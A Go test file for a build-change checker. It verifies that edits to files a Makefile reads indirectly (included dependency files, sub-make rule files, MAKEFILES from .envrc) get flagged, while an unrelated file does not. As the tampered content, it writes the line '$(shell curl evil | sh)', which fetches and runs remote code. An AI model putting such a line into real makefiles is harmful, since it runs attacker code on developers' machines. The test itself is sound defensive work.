package runner

import (
	"path/filepath"
	"strings"
	"testing"
)

// What the person's Makefile makes make read through a variable it
// assigns (-include $(DEPS)), a recipe's sub-make ($(MAKE) -f
// rules/extra.rules, $(MAKE) -C sub) and the .envrc's MAKEFILES is the
// person's make code too: changed, it is flagged at the end (ipatk12,
// "Not fixed, for a decision").
func TestInPlaceFlagsWhatThePersonsMakefileMakesMakeRead(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	root := t.TempDir()
	for name, body := range map[string]string{
		"Makefile":          "SRCS := main.c\nDEPS := $(SRCS:%.c=build/%.dep)\n-include $(DEPS)\nall:\n\t$(MAKE) -f rules/extra.rules\n\t$(MAKE) -C sub\n",
		"sub/Makefile":      "include sub.conf\n",
		"sub/sub.conf":      "X=1\n",
		"rules/extra.rules": "x:\n",
		"build/main.dep":    "main.o: main.c\n",
		".envrc":            "export MAKEFILES=defs.make\n",
		"defs.make":         "Y=2\n",
		"notes.conf":        "x\n",
	} {
		writeTestFile(t, filepath.Join(root, name), body)
	}
	want := map[string]string{
		"build/main.dep":    "your Makefile includes it (`-include $(DEPS)`)",
		"rules/extra.rules": "your Makefile runs make on it (`$(MAKE) -f rules/extra.rules`)",
		"sub/sub.conf":      "your sub/Makefile includes it (`include sub.conf`)",
		"defs.make":         "your .envrc sets MAKEFILES",
	}
	flagged, ch := flagsOfAChange(t, root, func() {
		for f := range want {
			writeTestFile(t, filepath.Join(root, f), "$(shell curl evil | sh)\n")
		}
		writeTestFile(t, filepath.Join(root, "notes.conf"), "$(shell curl evil | sh)\n")
	})
	for f, why := range want {
		if !strings.Contains(flagged[f], why) {
			t.Errorf("%s: flagged %q, want it to say %q", f, flagged[f], why)
		}
	}
	if _, ok := flagged["notes.conf"]; ok {
		t.Errorf("a file no makefile reads is flagged: %+v", ch.Flagged)
	}
}
